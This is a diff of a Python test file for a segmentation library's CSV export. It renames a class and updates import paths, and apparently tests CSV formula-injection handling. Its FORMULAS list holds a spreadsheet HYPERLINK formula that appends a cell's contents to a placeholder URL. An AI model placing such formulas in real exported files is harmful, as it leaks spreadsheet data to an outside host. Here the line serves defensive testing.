@@ -9,12 +9,12 @@ from hypothesis import strategies as st
 from unetseg.cli.check import write_findings
 from unetseg.evaluation.paired_comparison import read_measure
 from unetseg.training.cross_validation import FoldRow, write_folds
-from UNetSegmenterLib.engine.evaluation.comparison import Row
+from UNetSegmenterLib.engine.evaluation.comparison import StructureComparison
 from UNetSegmenterLib.engine.evaluation.measures import Measures
-from UNetSegmenterLib.engine.evaluation.statistics import write_metrics_csv
+from UNetSegmenterLib.engine.evaluation.result_files import write_metrics_csv
 from UNetSegmenterLib.engine.evaluation.verdict import Verdict, read_reviews, write_reviews
 from UNetSegmenterLib.engine.io.csv_text import csv_cell, csv_text, from_csv_text, read_csv_rows
-from UNetSegmenterLib.engine.plausibility import Finding
+from UNetSegmenterLib.engine.plausibility.finding import Finding
 
 FORMULAS = [
     '=HYPERLINK("http://example.org/?"&A1,"liver")',
@@ -96,7 +96,7 @@ def measures(**changes) -> Measures:
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_tables_of_measures(tmp_path, text):
-    row = Row(text, text, "ok", measures(), text)
+    row = StructureComparison(text, text, "ok", measures(), text)
     verdict = Verdict("plausible", text, text)
     path = tmp_path / "metrics.csv"
     write_metrics_csv([row], path, {text: verdict})
